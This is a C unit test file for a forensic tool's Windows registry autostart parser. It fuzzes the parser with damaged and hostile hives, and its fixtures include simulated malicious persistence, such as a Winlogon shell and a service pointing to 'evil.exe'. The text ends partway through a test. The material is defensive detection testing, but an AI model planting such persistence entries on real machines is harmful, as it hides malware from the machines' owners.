/*
 * Registry hives: the autostart entries hn_hive_autoruns reads from
 * SOFTWARE-, SYSTEM- and NTUSER.DAT-like hives written at test time by
 * tests/tools/mkhive.py (found from this file's path), and its behaviour on
 * damaged and hostile hives: truncations, bit flips, garbage, huge counts,
 * shared data cells, bad UTF-16. Then windows.c on snapshots: Run keys,
 * services, tasks, the places of test_windows_more, a user's COM servers
 * (UsrClass.dat), Startup shortcuts (tests/tools/mklnk.py) and WMI event
 * subscriptions (tests/tools/mkwmi.py) BITS jobs (tests/tools/mkbits.py), and a service's program
 * replaced at the same version.
 */
#include "hunt/hunt.h"
#include "test.h"
#include "fixture.h"

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

static char scratch[PATH_MAX];
static char mkhive[PATH_MAX];

/* tests/tools/mkhive.py, next to this file's folder. */
static void find_mkhive(void)
{
    char here[PATH_MAX];
    pathf(here, "%s", __FILE__);
    char *slash = strrchr(here, '/');
    REQUIRE(slash);
    *slash = '\0'; /* tests/unit */
    slash = strrchr(here, '/');
    REQUIRE(slash);
    *slash = '\0'; /* tests */
    pathf(mkhive, "%s/tools/mkhive.py", here);
    REQUIRE(access(mkhive, R_OK) == 0);
}

/* Run mkhive.py on a JSON spec; the hive's bytes into out. */
static void make_hive(cr_buf *out, const char *json)
{
    static int seq;
    char spec[PATH_MAX], hive[PATH_MAX], cmd[3 * PATH_MAX + 64];
    pathf(spec, "%s/spec-%d.json", scratch, seq);
    pathf(hive, "%s/hive-%d", scratch, seq);
    seq++;
    write_at(scratch, strrchr(spec, '/') + 1, json, strlen(json));
    /* The system's interpreter when there is one: version-manager shims are slow to start. */
    const char *py = access("/usr/bin/python3", X_OK) == 0 ? "/usr/bin/python3" : "python3";
    snprintf(cmd, sizeof(cmd), "%s '%s' -o '%s' '%s'", py, mkhive, hive, spec);
    REQUIRE(system(cmd) == 0);
    cr_buf_free(out);
    REQUIRE(cr_fs_read_all(out, AT_FDCWD, hive, 64u << 20) == 0);
}

static const hn_autorun *find(const hn_autorun *a, size_t n, const char *key, const char *name)
{
    for (size_t i = 0; i < n; i++)
        if (!strcmp(a[i].key, key) && !strcmp(a[i].name, name))
            return &a[i];
    return NULL;
}

/* Valid UTF-8 without C0/C1 control characters. */
static int clean_utf8(const char *s)
{
    const unsigned char *p = (const unsigned char *)s;
    while (*p) {
        size_t k;
        uint32_t cp;
        if (*p < 0x80) {
            if (*p < 0x20 || *p == 0x7f)
                return 0;
            p++;
            continue;
        }
        if ((*p & 0xe0) == 0xc0)
            k = 2, cp = *p & 0x1f;
        else if ((*p & 0xf0) == 0xe0)
            k = 3, cp = *p & 0x0f;
        else if ((*p & 0xf8) == 0xf0)
            k = 4, cp = *p & 0x07;
        else
            return 0;
        for (size_t i = 1; i < k; i++) {
            if ((p[i] & 0xc0) != 0x80)
                return 0;
            cp = cp << 6 | (p[i] & 0x3f);
        }
        if ((k == 2 && cp < 0x80) || (k == 3 && cp < 0x800) || (k == 4 && cp < 0x10000) ||
            cp > 0x10ffff || (cp >= 0xd800 && cp < 0xe000) || (cp >= 0x80 && cp < 0xa0))
            return 0;
        p += k;
    }
    return 1;
}

/* Every entry has non-NULL, clean strings and a known kind. */
static int entries_sane(const hn_autorun *a, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        if (!a[i].key || !a[i].name || !a[i].data || !clean_utf8(a[i].key) ||
            !clean_utf8(a[i].name) || !clean_utf8(a[i].data) || a[i].kind < HN_AUTORUN_RUN ||
            a[i].kind > HN_AUTORUN_BITS)
            return 0;
    }
    return 1;
}

static const char *software_spec =
    "{\"name\": \"SOFTWARE\", \"keys\": {"
    " \"Microsoft/Windows/CurrentVersion/Run\": {"
    "   \"SecurityHealth\": {\"expand\": \"%windir%\\\\system32\\\\SecurityHealthSystray.exe\"},"
    "   \"Updater\": \"\\\"C:\\\\Users\\\\bob\\\\AppData\\\\Roaming\\\\u.exe\\\" /quiet\","
    "   \"\": \"C:\\\\default.exe\","
    "   \"NotAString\": 7, \"Bin\": {\"binary\": \"4100420000\"},"
    "   \"Multi\": {\"multi\": [\"a.exe\", \"b.exe\"]}},"
    " \"Microsoft/Windows/CurrentVersion/RunOnce\": {\"Once\": \"once.exe\"},"
    " \"Microsoft/Windows/CurrentVersion/RunServices\": {\"Svc\": \"rs.exe\"},"
    " \"Microsoft/Windows/CurrentVersion/Policies/Explorer/Run\": {\"Pol\": \"pol.exe\"},"
    " \"Microsoft/Windows/CurrentVersion/Explorer\": {\"Run\": \"not-a-run-key.exe\"},"
    " \"Wow6432Node/Microsoft/Windows/CurrentVersion/Run\": {\"W32\": \"w32.exe\"},"
    " \"Wow6432Node/Microsoft/Windows/CurrentVersion/RunOnce\": {\"W32Once\": \"w32once.exe\"},"
    " \"Microsoft/Windows NT/CurrentVersion/Winlogon\": {\"Shell\": \"explorer.exe\","
    "   \"Userinit\": \"C:\\\\Windows\\\\system32\\\\userinit.exe,\", \"AutoRestartShell\": 1,"
    "   \"DefaultUserName\": \"alice\"},"
    " \"Classes/exefile\": {}"
    "}}";

static void test_software(void)
{
    cr_buf b = CR_BUF_INIT;
    hn_autorun *a = NULL;
    size_t n = 0;
    const hn_autorun *e;

    make_hive(&b, software_spec);
    CHECK_OK(hn_hive_autoruns(&a, &n, b.ptr, b.len));
    CHECK(n == 10);
    CHECK(entries_sane(a, n));
    e = find(a, n, "Microsoft\\Windows\\CurrentVersion\\Run", "SecurityHealth");
    CHECK(e && e->kind == HN_AUTORUN_RUN &&
          !strcmp(e->data, "%windir%\\system32\\SecurityHealthSystray.exe"));
    e = find(a, n, "Microsoft\\Windows\\CurrentVersion\\Run", "Updater");
    CHECK(e && !strcmp(e->data, "\"C:\\Users\\bob\\AppData\\Roaming\\u.exe\" /quiet"));
    e = find(a, n, "Microsoft\\Windows\\CurrentVersion\\Run", "(Default)");
    CHECK(e && !strcmp(e->data, "C:\\default.exe"));
    CHECK(!find(a, n, "Microsoft\\Windows\\CurrentVersion\\Run", "NotAString"));
    CHECK(!find(a, n, "Microsoft\\Windows\\CurrentVersion\\Run", "Bin"));
    CHECK(!find(a, n, "Microsoft\\Windows\\CurrentVersion\\Run", "Multi"));
    e = find(a, n, "Microsoft\\Windows\\CurrentVersion\\RunOnce", "Once");
    CHECK(e && e->kind == HN_AUTORUN_RUNONCE && !strcmp(e->data, "once.exe"));
    e = find(a, n, "Microsoft\\Windows\\CurrentVersion\\RunServices", "Svc");
    CHECK(e && e->kind == HN_AUTORUN_RUN);
    e = find(a, n, "Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer\\Run", "Pol");
    CHECK(e && e->kind == HN_AUTORUN_RUN && !strcmp(e->data, "pol.exe"));
    e = find(a, n, "Wow6432Node\\Microsoft\\Windows\\CurrentVersion\\Run", "W32");
    CHECK(e && e->kind == HN_AUTORUN_RUN);
    e = find(a, n, "Wow6432Node\\Microsoft\\Windows\\CurrentVersion\\RunOnce", "W32Once");
    CHECK(e && e->kind == HN_AUTORUN_RUNONCE);
    e = find(a, n, "Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "Shell");
    CHECK(e && e->kind == HN_AUTORUN_WINLOGON && !strcmp(e->data, "explorer.exe"));
    e = find(a, n, "Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "Userinit");
    CHECK(e && !strcmp(e->data, "C:\\Windows\\system32\\userinit.exe,"));
    CHECK(!find(a, n, "Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "DefaultUserName"));
    hn_autoruns_free(a, n);

    /* Every subkey list format gives the same entries. */
    static const char *lists[] = {"lf", "li", "ri"};
    for (size_t i = 0; i < 3; i++) {
        char spec[4096];
        snprintf(spec, sizeof(spec), "{\"lists\": \"%s\", \"ri_chunk\": 1, %s", lists[i],
                 software_spec + 1);
        make_hive(&b, spec);
        a = NULL;
        n = 0;
        CHECK_OK(hn_hive_autoruns(&a, &n, b.ptr, b.len));
        CHECK(n == 10);
        CHECK(find(a, n, "Microsoft\\Windows\\CurrentVersion\\Run", "Updater") != NULL);
        hn_autoruns_free(a, n);
    }
    cr_buf_free(&b);
}

static void test_ntuser(void)
{
    cr_buf b = CR_BUF_INIT;
    hn_autorun *a = NULL;
    size_t n = 0;
    const hn_autorun *e;

    /* Key names in other cases than Windows' own: found all the same. */
    make_hive(&b,
              "{\"name\": \"NTUSER.DAT\", \"keys\": {"
              " \"SOFTWARE/microsoft/WINDOWS/currentversion/run\": {"
              "   \"OneDrive\": \"C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\od.exe /background\"},"
              " \"Software/Microsoft/Windows NT/CurrentVersion/Winlogon\": {"
              "   \"shell\": \"evil.exe\"},"
              " \"Environment\": {\"TEMP\": \"x\"}}}");
    CHECK_OK(hn_hive_autoruns(&a, &n, b.ptr, b.len));
    CHECK(n == 2);
    CHECK(entries_sane(a, n));
    e = find(a, n, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", "OneDrive");
    CHECK(e && e->kind == HN_AUTORUN_RUN &&
          !strcmp(e->data, "C:\\Users\\bob\\AppData\\Local\\od.exe /background"));
    e = find(a, n, "Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "Shell");
    CHECK(e && e->kind == HN_AUTORUN_WINLOGON && !strcmp(e->data, "evil.exe"));
    hn_autoruns_free(a, n);
    cr_buf_free(&b);
}

static void test_system(void)
{
    cr_buf b = CR_BUF_INIT;
    hn_autorun *a = NULL;
    size_t n = 0;
    const hn_autorun *e;

    make_hive(&b, "{\"name\": \"SYSTEM\", \"keys\": {"
                  " \"Select\": {\"Current\": 1, \"Default\": 1, \"LastKnownGood\": 2},"
                  " \"ControlSet001/Services/Tcpip\": {\"ImagePath\": "
                  "   {\"expand\": \"System32\\\\drivers\\\\tcpip.sys\"}, \"Start\": 0},"
                  " \"ControlSet001/Services/Dnscache\": {\"ImagePath\": "
                  "   {\"expand\": \"%SystemRoot%\\\\system32\\\\svchost.exe -k NetworkService\"}},"
                  " \"ControlSet001/Services/Dnscache/Parameters\": {\"ServiceDll\": "
                  "   {\"expand\": \"%SystemRoot%\\\\System32\\\\dnsrslvr.dll\"}},"
                  " \"ControlSet001/Services/NoImage\": {\"Start\": 3},"
                  " \"ControlSet001/Services/DwordImage\": {\"ImagePath\": 5},"
                  " \"ControlSet001/Services/Evil\": {\"ImagePath\": "
                  "   \"C:\\\\ProgramData\\\\evil.exe\", \"Start\": 2},"
                  " \"ControlSet002/Services/Tcpip\": {\"ImagePath\": "
                  "   {\"expand\": \"System32\\\\drivers\\\\tcpip.sys\"}},"
                  " \"ControlSetX/Services/NotASet\": {\"ImagePath\": \"x.exe\"},"
                  " \"ControlSet0001/Services/NotASet\": {\"ImagePath\": \"x.exe\"},"
                  " \"Setup\": {\"CmdLine\": \"\"}}}");
    CHECK_OK(hn_hive_autoruns(&a, &n, b.ptr, b.len));
    CHECK(n == 4);
    CHECK(entries_sane(a, n));
    e = find(a, n, "ControlSet001\\Services\\Tcpip", "Tcpip");
    CHECK(e && e->kind == HN_AUTORUN_SERVICE && !strcmp(e->data, "System32\\drivers\\tcpip.sys"));
    e = find(a, n, "ControlSet001\\Services\\Dnscache", "Dnscache");
    CHECK(e && !strcmp(e->data, "%SystemRoot%\\system32\\svchost.exe -k NetworkService "
                                "(ServiceDll: %SystemRoot%\\System32\\dnsrslvr.dll)"));
    e = find(a, n, "ControlSet001\\Services\\Evil", "Evil");
    CHECK(e && !strcmp(e->data, "C:\\ProgramData\\evil.exe"));
    CHECK(find(a, n, "ControlSet002\\Services\\Tcpip", "Tcpip") != NULL);
    CHECK(!find(a, n, "ControlSet001\\Services\\NoImage", "NoImage"));
    CHECK(!find(a, n, "ControlSet001\\Services\\DwordImage", "DwordImage"));
    hn_autoruns_free(a, n);

    /* A hive with none of the keys (SAM, SECURITY, an empty one): no entry, no error. */
    make_hive(&b, "{\"name\": \"SAM\", \"keys\": {\"SAM/Domains/Account\": {\"F\": "
                  "{\"binary\": \"0102\"}}}}");
    a = NULL;
    n = 1;
    CHECK_OK(hn_hive_autoruns(&a, &n, b.ptr, b.len));
    CHECK(n == 0 && a == NULL);
    make_hive(&b, "{}");
    n = 1;
    CHECK_OK(hn_hive_autoruns(&a, &n, b.ptr, b.len));
    CHECK(n == 0);
    cr_buf_free(&b);
}

/* Odd string data: how hn_hive_autoruns decodes it. */
static void test_strings(void)
{
    cr_buf b = CR_BUF_INIT;
    hn_autorun *a = NULL;
    size_t n = 0;
    const hn_autorun *e;
    const char *run = "Microsoft\\Windows\\CurrentVersion\\Run";

    /* "A" + lone high surrogate + "B"; NUL inside; ESC and newline; an odd last byte;
     * a pair (U+1F600); a REG_SZ of 40000 bytes (big data, in segments); a REG_SZ
     * over 64 KiB (skipped); an empty one; a Latin-1 value name. */
    size_t cap = 300000;
    char *spec = malloc(cap), *big = malloc(20001);
    REQUIRE(spec && big);
    memset(big, 'Q', 20000);
    big[20000] = '\0';
    int k = snprintf(spec, cap,
                     "{\"keys\": {\"Microsoft/Windows/CurrentVersion/Run\": {"
                     " \"Lone\": {\"type\": 1, \"hex\": \"410000d8420000\"},"
                     " \"Nul\": {\"type\": 1, \"hex\": \"610000006200\"},"
                     " \"Ctl\": {\"type\": 2, \"hex\": \"1b005b0031006d000a00780000\"},"
                     " \"Odd\": {\"type\": 1, \"hex\": \"7800790041\"},"
                     " \"Pair\": {\"type\": 1, \"hex\": \"3dd800de0000\"},"
                     " \"Empty\": {\"type\": 1, \"hex\": \"\"},"
                     " \"\\u00c9t\\u00e9\": \"latin.exe\","
                     " \"Big\": {\"sz\": \"%s\"},"
                     " \"Huge\": {\"type\": 1, \"hex\": \"",
                     big);
    for (int i = 0; i < 33000; i++)
        k += snprintf(spec + k, cap - (size_t)k, "4100");
    snprintf(spec + k, cap - (size_t)k, "\"}}}}");
    make_hive(&b, spec);
    free(spec);
    CHECK_OK(hn_hive_autoruns(&a, &n, b.ptr, b.len));
    CHECK(entries_sane(a, n));
    e = find(a, n, run, "Lone");
    CHECK(e && !strcmp(e->data, "A\xef\xbf\xbd"
                                "B"));
    e = find(a, n, run, "Nul");
    CHECK(e && !strcmp(e->data, "a"));
    e = find(a, n, run, "Ctl");
    CHECK(e && !strcmp(e->data, "?[1m?x"));
    e = find(a, n, run, "Odd");
    CHECK(e && !strcmp(e->data, "xy"));
    e = find(a, n, run, "Pair");
    CHECK(e && !strcmp(e->data, "\xf0\x9f\x98\x80"));
    e = find(a, n, run, "Big");
    CHECK(e && strlen(e->data) == 20000 && !strcmp(e->data, big));
    CHECK(!find(a, n, run, "Huge"));
    e = find(a, n, run, "Empty");
    CHECK(e && !strcmp(e->data, ""));
    e = find(a, n, run, "\xc3\x89t\xc3\xa9");
    CHECK(e && !strcmp(e->data, "latin.exe"));
    CHECK(n == 8);
    hn_autoruns_free(a, n);
    free(big);
    cr_buf_free(&b);
}

/* Offset of the nk record (after the cell size) of the key named `name`. */
static size_t find_nk(const cr_buf *b, const char *name)
{
    size_t k = strlen(name);
    for (size_t off = 0x1000; off + 0x50 + k <= b->len; off += 4) {
        const uint8_t *p = b->ptr + off + 4;
        if (p[0] == 'n' && p[1] == 'k' && (size_t)(p[0x48] | p[0x49] << 8) == k &&
            !memcmp(p + 0x4c, name, k))
            return off + 4;
    }
    return 0;
}

static void put32(uint8_t *p, uint32_t v)
{
    p[0] = (uint8_t)v;
    p[1] = (uint8_t)(v >> 8);
    p[2] = (uint8_t)(v >> 16);
    p[3] = (uint8_t)(v >> 24);
}

static void test_hostile_counts(void)
{
    cr_buf b = CR_BUF_INIT;
    hn_autorun *a = NULL;
    size_t n = 0;
    size_t nk;

    make_hive(&b, software_spec);
    /* The Run key claims 2^31 - 1 values, then 1000 (more than its list holds). */
    REQUIRE((nk = find_nk(&b, "Run")) != 0);
    uint32_t keep = b.ptr[nk + 0x24] | (uint32_t)b.ptr[nk + 0x25] << 8;
    put32(b.ptr + nk + 0x24, 0x7fffffff);
    n = 1;
    CHECK(hn_hive_autoruns(&a, &n, b.ptr, b.len) == CR_ECORRUPT && n == 0 && !a);
    put32(b.ptr + nk + 0x24, 1000);
    CHECK(hn_hive_autoruns(&a, &n, b.ptr, b.len) == CR_ECORRUPT && n == 0 && !a);
    put32(b.ptr + nk + 0x24, keep);
    CHECK_OK(hn_hive_autoruns(&a, &n, b.ptr, b.len));
    hn_autoruns_free(a, n);
    /* The root claims 60000 subkeys; then its list points at itself. */
    REQUIRE((nk = find_nk(&b, "ROOT")) != 0);
    put32(b.ptr + nk + 0x14, 60000);
    CHECK(hn_hive_autoruns(&a, &n, b.ptr, b.len) == CR_ECORRUPT && n == 0);
    put32(b.ptr + nk + 0x14, 2);
    put32(b.ptr + nk + 0x1c, (uint32_t)(nk - 4 - 0x1000));
    CHECK(hn_hive_autoruns(&a, &n, b.ptr, b.len) == CR_ECORRUPT && n == 0);

    /* 600 values sharing one data cell of 60000 bytes: 18 MB of strings from a
     * small hive, over the bound. 500 of them pass. */
    for (int count = 600; count >= 500; count -= 100) {
        size_t cap = 200000 + (size_t)count * 64;
        char *spec = malloc(cap);
        REQUIRE(spec);
        int k =
            snprintf(spec, cap,
                     "{\"keys\": {\"Microsoft/Windows/CurrentVersion/Run\": {\"v0\": {\"sz\": \"");
        for (int i = 0; i < 29999; i++)
            spec[k++] = 'x';
        k += snprintf(spec + k, cap - (size_t)k, "\"}");
        for (int i = 1; i < count; i++)
            k += snprintf(spec + k, cap - (size_t)k, ", \"v%d\": {\"same_as\": \"v0\"}", i);
        snprintf(spec + k, cap - (size_t)k, "}}}");
        make_hive(&b, spec);
        free(spec);
        CHECK(b.len < 200000);
        int err = hn_hive_autoruns(&a, &n, b.ptr, b.len);
        if (count == 600) {
            CHECK(err == CR_ECORRUPT && n == 0);
        } else {
            CHECK(err == 0 && n == 500);
            hn_autoruns_free(a, n);
        }
    }
    cr_buf_free(&b);
}

static void test_damaged(void)
{
    cr_buf b = CR_BUF_INIT, c = CR_BUF_INIT;
    hn_autorun *a = NULL;
    size_t n = 0;
    int ok = 0, corrupt = 0, other = 0;

    make_hive(&b, software_spec);
    REQUIRE(b.len >= 0x2000);
    REQUIRE(cr_buf_grow(&c, b.len) == 0);

    /* Cut anywhere: always damaged, never read in part. */
    for (size_t cut = 0; cut < b.len; cut += (cut < 0x1100 ? 97 : 61)) {
        n = 1;
        int err = hn_hive_autoruns(&a, &n, b.ptr, cut);
        CHECK(err == CR_ECORRUPT && n == 0 && a == NULL);
        if (err == 0)
            hn_autoruns_free(a, n);
    }
    /* Any flipped bit of the base block's checked part: damaged. */
    for (size_t bit = 0; bit < 0x200 * 8; bit += 13) {
        memcpy(c.ptr, b.ptr, b.len);
        c.ptr[bit / 8] ^= (uint8_t)(1u << (bit % 8));
        CHECK(hn_hive_autoruns(&a, &n, c.ptr, b.len) == CR_ECORRUPT);
    }
    /* Random bit flips in the bins: read or damaged, never anything else, and
     * what is read is clean. */
    for (int round = 0; round < 1500; round++) {
        uint8_t r[8];
        memcpy(c.ptr, b.ptr, b.len);
        fill_random(r, sizeof(r));
        int flips = 1 + r[0] % 4;
        for (int f = 0; f < flips; f++) {
            uint8_t x[4];
            fill_random(x, sizeof(x));
            size_t pos =
                0x1000 + ((size_t)x[0] << 16 | (size_t)x[1] << 8 | x[2]) % (b.len - 0x1000);
            c.ptr[pos] ^= (uint8_t)(1u << (x[3] % 8));
        }
        int err = hn_hive_autoruns(&a, &n, c.ptr, b.len);
        if (err == 0) {
            ok++;
            CHECK(entries_sane(a, n));
            hn_autoruns_free(a, n);
        } else if (err == CR_ECORRUPT) {
            corrupt++;
            CHECK(n == 0 && a == NULL);
        } else {
            other++;
        }
    }
    CHECK(other == 0);
    CHECK(ok > 0 && corrupt > 0);
    printf("bit flips: %d read, %d damaged\n", ok, corrupt);

    /* Random 32-bit words written over cell fields (sizes, counts, offsets). */
    for (int round = 0; round < 1500; round++) {
        uint8_t x[8];
        memcpy(c.ptr, b.ptr, b.len);
        fill_random(x, sizeof(x));
        size_t pos =
            0x1000 + (((size_t)x[0] << 16 | (size_t)x[1] << 8 | x[2]) % (b.len - 0x1000)) / 4 * 4;
        uint32_t v = x[4] & 1 ? (uint32_t)x[5] << 8 | x[6] : (uint32_t) - (int32_t)(x[5] * 8);
        if (x[7] & 1)
            v = 0xffffffffu - x[5];
        put32(c.ptr + pos, v);
        int err = hn_hive_autoruns(&a, &n, c.ptr, b.len);
        CHECK(err == 0 || err == CR_ECORRUPT);
        if (err == 0) {
            CHECK(entries_sane(a, n));
            hn_autoruns_free(a, n);
        }
    }

    /* Garbage, and things that are not hives. */
    for (size_t len = 0; len < 0x6000; len += 0x7ff) {
        uint8_t *g = malloc(len + 1);
        REQUIRE(g);
        fill_random(g, len);
        CHECK(hn_hive_autoruns(&a, &n, g, len) == CR_ECORRUPT);
        if (len >= 4) {
            memcpy(g, "regf", 4);
            CHECK(hn_hive_autoruns(&a, &n, g, len) == CR_ECORRUPT);
        }
        free(g);
    }
    CHECK(hn_hive_autoruns(&a, &n, "", 0) == CR_ECORRUPT);
    CHECK(strstr(cr_error_last(), "too small") != NULL);
    memcpy(c.ptr, b.ptr, b.len);
    memcpy(c.ptr, "regF", 4);
    CHECK(hn_hive_autoruns(&a, &n, c.ptr, b.len) == CR_ECORRUPT);
    CHECK(strstr(cr_error_last(), "not a registry hive") != NULL);
    /* Trailing bytes after the bins the header announces are ignored. */
    REQUIRE(cr_buf_grow(&c, b.len + 5000) == 0);
    memcpy(c.ptr, b.ptr, b.len);
    memset(c.ptr + b.len, 'Z', 5000);
    CHECK_OK(hn_hive_autoruns(&a, &n, c.ptr, b.len + 5000));
    CHECK(n == 10);
    hn_autoruns_free(a, n);
    cr_buf_free(&b);
    cr_buf_free(&c);
}

/* ------------------------------------------------------------ windows.c */

static int warnings;
static char last_warning[1024];

static void on_warning(const char *path, const char *message, void *payload)
{
    (void)payload;
    warnings++;
    snprintf(last_warning, sizeof(last_warning), "%s: %s", path, message);
}

/* Write a file below dir, creating its folders. */
static void put_file(const char *dir, const char *rel, const void *data, size_t len)
{
    char p[PATH_MAX];
    join(p, dir, rel);
    char *slash = strrchr(p, '/');
    *slash = '\0';
    REQUIRE(cr_fs_mkdir_p(AT_FDCWD, p, 0755) == 0);
    write_at(dir, rel, data, len);
}

static void put_hive(const char *dir, const char *rel, const char *spec)
{
    cr_buf b = CR_BUF_INIT;
    make_hive(&b, spec);
    put_file(dir, rel, b.ptr, b.len);
    cr_buf_free(&b);
}

/* A task file as Windows writes it: UTF-16LE with a byte order mark. */
static void put_task(const char *dir, const char *rel, const char *actions, const char *extra)
{
    char xml[4096];
    uint8_t u[8192 + 2];
    int n = snprintf(xml, sizeof(xml),
                     "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" "
                     "xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n"
                     "  <RegistrationInfo><URI>\\x</URI>%s</RegistrationInfo>\r\n"
                     "  <Actions Context=\"Author\">%s</Actions>\r\n</Task>\r\n",
                     extra, actions);
    REQUIRE(n > 0 && (size_t)n < sizeof(xml));
    u[0] = 0xff;
    u[1] = 0xfe;
    for (int i = 0; i < n; i++) {
        u[2 + 2 * i] = (uint8_t)xml[i];
        u[3 + 2 * i] = 0;
    }
    put_file(dir, rel, u, 2 + 2 * (size_t)n);
}

typedef struct win_run {
    cr_repo *repo;
    hn_ctx ctx;
    cr_finding *prev; /* findings of the previous run (relative paths) */
    size_t nprev;
} win_run;

/* Judge `rel` of snapshot s against p (NULL: baseline), as hunt.c would for a changed node. */
static void judge(win_run *w, const cr_snapshot *p, const cr_snapshot *s, const char *rel)
{
    char full[PATH_MAX];
    cr_node on, nn;
    int has_old = 0;
    pathf(full, "%s%s", s->paths[0], rel);
    REQUIRE(cr_snapshot_lookup(&nn, w->repo, s, full) == 0);
    if (p && cr_snapshot_lookup(&on, w->repo, p, full) == 0)
        has_old = 1;
    size_t first = w->nprev, count = 0;
    for (size_t i = 0; i < w->nprev; i++)
        if (!strcmp(w->prev[i].path, rel)) {
            if (first == w->nprev)
                first = i;
            count++;
        }
    w->ctx.snap = s;
    w->ctx.pred = p;
    w->ctx.baseline = p == NULL;
    w->ctx.root = s->paths[0];
    w->ctx.prev = count ? &w->prev[first] : NULL;
    w->ctx.nprev = count;
    CHECK_OK(hn_persist_windows(&w->ctx, rel, has_old ? &on : NULL, &nn));
    cr_node_clear(&nn);
    if (has_old)
        cr_node_clear(&on);
}

/* The findings of this run become the previous ones (grouped by path). */
static int cmp_path(const void *a, const void *b)
{
    return strcmp(((const cr_finding *)a)->path, ((const cr_finding *)b)->path);
}

static void next_run(win_run *w)
{
    if (getenv("CR_TEST_VERBOSE"))
        for (size_t i = 0; i < w->ctx.nout; i++)
            fprintf(stderr, "%s %s %s [%s] %s\n", cr_severity_name(w->ctx.out[i].severity),
                    w->ctx.out[i].path, w->ctx.out[i].indicator,
                    w->ctx.out[i].evidence ? w->ctx.out[i].evidence : "-", w->ctx.out[i].detail);
    cr_findings_free(w->prev, w->nprev);
    w->prev = w->ctx.out;
    w->nprev = w->ctx.nout;
    if (w->nprev)
        qsort(w->prev, w->nprev, sizeof(*w->prev), cmp_path);
    w->ctx.out = NULL;
    w->ctx.nout = w->ctx.capout = 0;
}

/* The finding on path with indicator (and evidence, unless NULL), or NULL. */
static const cr_finding *found(const win_run *w, const char *path, const char *ind,
                               const char *evidence)
{
    for (size_t i = 0; i < w->ctx.nout; i++) {
        const cr_finding *f = &w->ctx.out[i];
        if (!strcmp(f->path, path) && !strcmp(f->indicator, ind) &&
            (!evidence || (f->evidence && !strcmp(f->evidence, evidence))))
            return f;
    }
    return NULL;
}

static size_t count_on(const win_run *w, const char *path, cr_severity min)
{
    size_t n = 0;
    for (size_t i = 0; i < w->ctx.nout; i++)
        n += !strcmp(w->ctx.out[i].path, path) && w->ctx.out[i].severity >= min;
    return n;
}

#define SW "/Windows/System32/config/SOFTWARE"
#define SY "/Windows/System32/config/SYSTEM"
#define ALICE "/Users/alice/NTUSER.DAT"
#define BOB "/Users/bob/NTUSER.DAT"
#define DEFUSER "/Users/Default/NTUSER.DAT"
#define STARTUP "/ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/"
#define TASKS "/Windows/System32/Tasks/"
#define RUNKEY "Microsoft\\Windows\\CurrentVersion\\Run\\"
#define DEFRAG                                                                                     \
    "<Exec><Command>%windir%\\system32\\defrag.exe</Command><Arguments>-c -h -o -$"                \
    "</Arguments></Exec>"

static const char *default_user_spec =
    "{\"keys\": {\"Software/Microsoft/Windows/CurrentVersion/RunOnce\": {"
    " \"OneDriveSetup\": \"C:\\\\Windows\\\\System32\\\\OneDriveSetup.exe /thfirstsetup\"}}}";

static void test_windows(void)
{
    char win[PATH_MAX], vault[PATH_MAX];
    cr_snapshot *a = NULL, *b = NULL, *c = NULL;
    cr_backup_options bo = CR_BACKUP_OPTIONS_INIT;
    const cr_finding *f;
    win_run w;
    cr_buf buf = CR_BUF_INIT;

    memset(&w, 0, sizeof(w));
    pathf(win, "%s/win", scratch);
    pathf(vault, "%s/vault", scratch);
    w.repo = fx_vault_new(vault, "pw");
    w.ctx.repo = w.repo;
    w.ctx.warning = on_warning;
    const char *paths[] = {win};
    bo.source = "ws1";
    bo.force_read = 1;
    bo.threads = 1;

    /* Day 1 (baseline): an ordinary workstation. */
    put_hive(win, "Windows/System32/config/SOFTWARE",
             "{\"keys\": {\"Microsoft/Windows/CurrentVersion/Run\": {\"SecurityHealth\": "
             "{\"expand\": \"%windir%\\\\system32\\\\SecurityHealthSystray.exe\"}},"
             " \"Microsoft/Windows NT/CurrentVersion/Winlogon\": {\"Shell\": \"explorer.exe\","
             "   \"Userinit\": \"C:\\\\Windows\\\\system32\\\\userinit.exe,\"},"
             " \"Classes/.txt\": {\"\": \"txtfile\"}}}");
    put_hive(win, "Windows/System32/config/SYSTEM",
             "{\"keys\": {\"Select\": {\"Current\": 1}, \"ControlSet001/Services/Tcpip\": "
             "{\"ImagePath\": {\"expand\": \"System32\\\\drivers\\\\tcpip.sys\"}}}}");
    put_hive(win, "Users/alice/NTUSER.DAT",
             "{\"keys\": {\"Software/Microsoft/Windows/CurrentVersion/Run\": {\"OneDrive\": "
             "\"\\\"C:\\\\Users\\\\alice\\\\AppData\\\\Local\\\\Microsoft\\\\OneDrive\\\\"
             "OneDrive.exe\\\" /background\"}}}");
    put_hive(win, "Users/Default/NTUSER.DAT", default_user_spec);
    put_file(win, STARTUP "desktop.ini" + 1, "[.ShellClassInfo]\r\n", 19);
    put_file(win, STARTUP "Helper.lnk" + 1, "L\0\0\0lnk-v1", 10);
    put_task(win, TASKS "Microsoft/Windows/Defrag/ScheduledDefrag" + 1, DEFRAG, "");
    put_task(win, TASKS "Microsoft/Windows/Updates/Refresh" + 1,
             "<ComHandler><ClassId>{A}</ClassId></ComHandler>", "");
    bo.time_ns = 1700000000000000000ll;
    REQUIRE(cr_backup(&a, w.repo, paths, 1, &bo) == 0);

    static const char *day1[] = {SW,
                                 SY,
                                 ALICE,
                                 DEFUSER,
                                 STARTUP "desktop.ini",
                                 STARTUP "Helper.lnk",
                                 TASKS "Microsoft/Windows/Defrag/ScheduledDefrag",
                                 TASKS "Microsoft/Windows/Updates/Refresh"};
    for (size_t i = 0; i < sizeof(day1) / sizeof(day1[0]); i++)
        judge(&w, NULL, a, day1[i]);
    for (size_t i = 0; i < w.ctx.nout; i++)
        CHECK(w.ctx.out[i].severity == CR_SEV_INFO);
    CHECK(count_on(&w, SW, CR_SEV_INFO) == 3);
    CHECK(count_on(&w, SY, CR_SEV_INFO) == 1);
    f = found(&w, SW, "persistence:run-key", RUNKEY "SecurityHealth");
